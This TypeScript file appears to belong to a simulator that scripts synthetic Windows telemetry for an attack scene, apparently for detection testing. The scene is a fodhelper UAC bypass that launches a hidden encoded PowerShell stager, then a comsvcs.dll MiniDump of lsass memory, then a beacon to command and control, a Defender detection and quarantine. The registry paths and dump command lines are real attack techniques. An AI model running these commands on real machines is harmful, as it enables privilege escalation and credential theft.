// Third scene: more rights, then the secrets in the memory of lsass.
import { PROGRAMS } from '../windows/programs.ts';
import { COMMAND_AND_CONTROL, encoded, STAGER } from './attacker.ts';
import { found, quarantined } from './defender.ts';
import { ask, run, type Foothold } from './foothold.ts';

/** Around UAC by fodhelper, then the memory of lsass by comsvcs.dll. */
export function dumpMemory(foothold: Foothold, at: number): void {
  const { desk, machine, beacon } = foothold;
  const { logon } = desk.session;
  const command = `powershell.exe -NoP -W Hidden -Enc ${encoded(STAGER)}`;
  machine.setRegistry(
    beacon,
    at,
    `HKU\\${logon.account.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)`,
    command,
  );
  machine.setRegistry(
    beacon,
    at + 60,
    `HKU\\${logon.account.sid}_Classes\\ms-settings\\shell\\open\\command\\DelegateExecute`,
    '(Empty)',
  );
  const helper = run(machine, at + 1500, beacon, PROGRAMS.fodhelper, '="C:\\Windows\\system32\\fodhelper.exe"', 'High');
  const elevated = run(machine, at + 1900, helper, PROGRAMS.powershell, `=${command}`, 'High');
  machine.exit(helper, at + 2600);
  Object.assign(foothold, { elevated });
  const { lsass } = desk.booted;
  const dump = 'C:\\Windows\\Temp\\d1f.tmp';
  const shell = run(
    machine,
    at + 95_000,
    elevated,
    PROGRAMS.cmd,
    `="C:\\Windows\\system32\\cmd.exe" /c tasklist /fi "imagename eq lsass.exe"`,
  );
  ask(machine, at + 95_100, shell, PROGRAMS.tasklist, '=tasklist  /fi "imagename eq lsass.exe"');
  machine.exit(shell, at + 96_000);
  const dumper = run(
    machine,
    at + 128_000,
    elevated,
    PROGRAMS.rundll32,
    `="C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`,
  );
  machine.loadImage(
    dumper,
    at + 128_090,
    {
      ...PROGRAMS.rundll32,
      image: 'C:\\Windows\\System32\\dbgcore.dll',
      description: 'Windows Core Debugging Helpers',
      originalName: 'DBGCORE.DLL',
    },
    'Microsoft Windows',
  );
  machine.access(
    dumper,
    lsass,
    at + 128_140,
    '0x1FFFFF',
    'C:\\Windows\\SYSTEM32\\ntdll.dll+9d5a4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+37a1f|C:\\Windows\\System32\\rundll32.exe+4b2d',
  );
  machine.createFile(dumper, at + 128_600, dump);
  const finding = {
    threat: 'Behavior:Win32/LsassDump.A!attk',
    threatId: 2_147_816_880,
    severity: 'High',
    category: 'Suspicious Behavior',
    resources: [`file:_${dump}`],
    process: dumper,
  } as const;
  found(machine, at + 129_000, finding);
  machine.exit(dumper, at + 131_000);
  machine.connect(elevated, at + 150_000, COMMAND_AND_CONTROL);
  machine.deleteFile(elevated, at + 162_000, dump);
  quarantined(machine, at + 170_000, finding);
}
